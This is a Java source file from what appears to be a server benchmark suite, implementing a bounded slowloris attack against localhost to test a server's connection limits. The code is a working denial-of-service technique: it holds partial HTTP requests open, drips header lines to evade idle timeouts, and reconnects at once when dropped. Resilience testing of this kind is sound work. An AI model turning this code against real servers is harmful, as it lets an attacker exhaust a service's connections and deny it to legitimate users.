package dev.mosaic.bench.attack;

import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.net.NetClient;
import io.vertx.core.net.NetClientOptions;
import io.vertx.core.net.NetSocket;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A slowloris attack, bounded: holds {@code sockets} connections to 127.0.0.1, each sending an
 * unfinished request head and then one more header line every {@code dripMillis}, so bytes keep
 * coming and an idle limit alone never fires. A connection the server closes is opened again at
 * once, as a real attacker would. Stops (and closes everything) on {@link #close()}.
 */
public final class Slowloris implements AutoCloseable {

  private static final Buffer HEAD =
      Buffer.buffer("GET /products/1 HTTP/1.1\r\nHost: 127.0.0.1\r\n");

  private final Vertx vertx;
  private final NetClient client;
  private final int port;
  private final long dripMillis;
  private final AtomicBoolean running = new AtomicBoolean(true);
  private final AtomicInteger open = new AtomicInteger();
  private final AtomicLong opened = new AtomicLong();
  private final AtomicLong closedByServer = new AtomicLong();
  private final AtomicLong refused = new AtomicLong();

  public Slowloris(int port, int sockets, long dripMillis) {
    this.vertx = Vertx.vertx();
    this.client = vertx.createNetClient(new NetClientOptions().setConnectTimeout(5_000));
    this.port = port;
    this.dripMillis = dripMillis;
    for (int i = 0; i < sockets; i++) {
      connect();
    }
  }

  private void connect() {
    if (!running.get()) {
      return;
    }
    client
        .connect(port, "127.0.0.1")
        .onComplete(
            done -> {
              if (done.failed()) {
                refused.incrementAndGet();
                vertx.setTimer(100, id -> connect());
                return;
              }
              NetSocket socket = done.result();
              open.incrementAndGet();
              opened.incrementAndGet();
              socket.write(HEAD);
              long drip =
                  vertx.setPeriodic(dripMillis, id -> socket.write(Buffer.buffer("X-Drip: x\r\n")));
              socket.handler(ignored -> {});
              socket.exceptionHandler(ignored -> {}); // a reset is the server doing its job
              socket.closeHandler(
                  v -> {
                    vertx.cancelTimer(drip);
                    open.decrementAndGet();
                    if (running.get()) {
                      closedByServer.incrementAndGet();
                      connect();
                    }
                  });
            });
  }

  /** Connections held right now. */
  public int open() {
    return open.get();
  }

  public long opened() {
    return opened.get();
  }

  /** Connections the server closed while the attack ran (its limits at work). */
  public long closedByServer() {
    return closedByServer.get();
  }

  public long refused() {
    return refused.get();
  }

  /** Called from the run's main thread, never from an event loop; bounded, as every wait here. */
  @Override
  public void close() {
    running.set(false);
    try {
      vertx
          .close()
          .toCompletionStage()
          .toCompletableFuture()
          .get(10, java.util.concurrent.TimeUnit.SECONDS);
    } catch (Exception e) {
      throw new IllegalStateException("the attacker's Vert.x did not close within 10 s", e);
    }
  }
}
